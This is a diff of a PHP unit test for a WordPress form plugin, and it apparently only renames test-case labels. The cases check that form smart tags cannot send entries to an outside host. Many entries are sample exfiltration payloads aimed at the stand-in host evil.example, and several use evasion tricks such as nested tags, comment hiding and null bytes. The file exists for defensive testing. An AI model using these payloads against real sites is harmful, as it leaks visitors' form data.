@@ -23,32 +23,32 @@ final class ForeignTagsTest extends FormTestCase {
 		$home = home_url();
 		return [
 			'text'                   => [ '<p>Thanks {form:name}</p>', true ],
-			'everything as text'     => [ 'You wrote: {all_data}', true ],
+			'all data as text'     => [ 'You wrote: {all_data}', true ],
 			'text of an image'       => [ '<img src="https://evil.example/x.png" alt="For {form:name}">', true ],
 			'a page of this site'    => [ '<a href="/thanks/?who={form:name}">Go on</a>', true ],
-			'this site by its name'  => [ "<a href=\"$home/thanks/?who={form:name}\">Go on</a>", true ],
+			'this site by its host'  => [ "<a href=\"$home/thanks/?who={form:name}\">Go on</a>", true ],
 			'this site by a tag'     => [ '<a href="{site_url}/thanks/?who={form:name}">Go on</a>', true ],
-			'mail to the visitor'    => [ '<a href="mailto:{form:email}">Reply</a>', true ],
+			'a link to the visitor'    => [ '<a href="mailto:{form:email}">Reply</a>', true ],
 			'an image'               => [ '<img src="https://evil.example/?{form:name}">', false ],
 			'an image, all data'     => [ '<img src="https://evil.example/?{all_data}">', false ],
 			'an image, field:'       => [ "<img src='//evil.example/?{field:name}'>", false ],
 			'an unquoted image'      => [ '<img src=https://evil.example/?{form:name}>', false ],
 			'a lazy image'           => [ '<img data-src="https://evil.example/?{form:name}" src="/a.png">', false ],
 			'a style'                => [ '<p style="background:url(https://evil.example/?{form:name})">Hi</p>', false ],
-			'a link elsewhere'       => [ '<a href="https://evil.example/?{form:name}">Go on</a>', false ],
-			'a host of the entry'    => [ '<a href="https://{form:name}.evil.example/">Go on</a>', false ],
-			'a name that goes on'    => [ '<a href="{site_url}.evil.example/?{form:name}">Go on</a>', false ],
+			'an external link'       => [ '<a href="https://evil.example/?{form:name}">Go on</a>', false ],
+			'a host from the entry'    => [ '<a href="https://{form:name}.evil.example/">Go on</a>', false ],
+			'a longer host name'    => [ '<a href="{site_url}.evil.example/?{form:name}">Go on</a>', false ],
 			'a user name'            => [ "<a href=\"$home@evil.example/?{form:name}\">Go on</a>", false ],
 			'a backslash'            => [ '<a href="/\\evil.example/?{form:name}">Go on</a>', false ],
-			'mail to somebody'       => [ '<a href="mailto:me@evil.example?body={form:name}">Reply</a>', false ],
+			'an email to a third party'       => [ '<a href="mailto:me@evil.example?body={form:name}">Reply</a>', false ],
 			'a video'                => [ '<video src="https://evil.example/?{form:name}" poster="https://evil.example/?{form:name}"></video>', false ],
 			'hidden from one parser' => [ '<title><img src="https://evil.example/?{form:name}"></title>', false ],
 			'in a comment'           => [ '<!-- > --><img src="https://evil.example/?{form:name}"><!-- -->', false ],
-			'halves of a tag'        => [ "<img src=\"https://evil.example/?{form:\0name}\">", false ],
+			'an incomplete tag'        => [ "<img src=\"https://evil.example/?{form:\0name}\">", false ],
 			'a number of this site'  => [ '<a href="/thanks/?id={entry_id}&amp;who={form:name}#top">Go on</a>', true ],
 			'a label'                => [ '<a href="/thanks/" aria-label="Thanks, {form:name}" title="{form:name}">Go on</a>', true ],
 			'all data in a text'     => [ '<img src="/a.png" alt="{all_data}">', true ],
-			'a slash too many'       => [ '<a href="/{form:none}/evil.example/?{form:name}">Go on</a>', false ],
+			'a double slash'       => [ '<a href="/{form:none}/evil.example/?{form:name}">Go on</a>', false ],
 			'slashes in a path'      => [ '<a href="/x//evil.example/?{form:name}">Go on</a>', false ],
 			'another port'           => [ '<a href="' . preg_replace( '~^(https?://[^/:]+).*~', '$1:1', $home ) . '/?{form:name}">Go on</a>', false ],
 			'nested, all data'       => [ '<p style="background-image:url(https://evil.example/?{fo{all_data}rm:name})">Hi</p>', false ],
@@ -56,10 +56,10 @@ final class ForeignTagsTest extends FormTestCase {
 			'nested twice'           => [ '<img src="https://evil.example/?{f{e{form:none}ntry_id}orm:name}">', false ],
 			'nested, as references'  => [ '<img src="https://evil.example/?&#123;fo{all_data}rm:name&#x7d;">', false ],
 			'two slashes, nested'    => [ '<a href="/{form:none}{form:none}/evil.example/{form:name}">Go on</a>', false ],
-			'a capital element'      => [ 'x<DIV STYLE="background:url(https://evil.example/?{form:name})">Hi</DIV>', false ],
+			'an uppercase element'      => [ 'x<DIV STYLE="background:url(https://evil.example/?{form:name})">Hi</DIV>', false ],
 			'a comment'              => [ '<!-- {form:name} --!> <img src="https://evil.example/?{form:name}"> -->', false ],
-			'all data in a link'     => [ '<a href="/thanks/?{all_data}">Go on</a>', false ],
-			'a quote in an address'  => [ "<blockquote cite='https://evil.example/?{form:name}'>Hi</blockquote>", false ],
+			'all data in a URL'     => [ '<a href="/thanks/?{all_data}">Go on</a>', false ],
+			'a quote in a URL'  => [ "<blockquote cite='https://evil.example/?{form:name}'>Hi</blockquote>", false ],
 			'a tag in a tag'         => [ '<img src="https://evil.example/?{for{form:name}m:name}">', false ],
 		];
 	}
@@ -82,7 +82,7 @@ final class ForeignTagsTest extends FormTestCase {
 			'a slash'             => [ '/', '<a href="/{form_title}evil.example/?{form:name}">Go on</a>' ],
 			'a backslash'         => [ '\\', '<a href="/{form_title}evil.example/?{form:name}">Go on</a>' ],
 			'the scheme'          => [ 'https:', '<a href="{form_title}//evil.example/?{form:name}">Go on</a>' ],
-			'the whole address'   => [ 'https://evil.example/?', '<a href="{form_title}{form:name}">Go on</a>' ],
+			'the whole URL'   => [ 'https://evil.example/?', '<a href="{form_title}{form:name}">Go on</a>' ],
 			'the end of the host' => [ '.evil.example', '<a href="{site_url}{form_title}/?{form:name}">Go on</a>' ],
 			'a user name'         => [ '@evil.example', '<a href="{site_url}{form_title}/?{form:name}">Go on</a>' ],
 			'a tag'               => [ '{form:name}', '<img src="https://evil.example/?{form_title}">' ],
@@ -99,7 +99,7 @@ final class ForeignTagsTest extends FormTestCase {
 		wp_update_post( wp_slash( [ 'ID' => $id, 'post_title' => $title ] ) );
 		$html = SmartTags::html( $message, Form::any( $id ) ?? self::form(), self::FIELDS, 7 );
 		self::assertStringNotContainsString( 'ada-entered', $html );
-		self::assertDoesNotMatchRegularExpression( '/(href|src|style)=/', $html, 'Such an attribute is removed whole.' );
+		self::assertDoesNotMatchRegularExpression( '/(href|src|style)=/', $html, 'The whole attribute is removed.' );
 	}
 
 	public function test_does_not_parse_values_for_tags(): void {
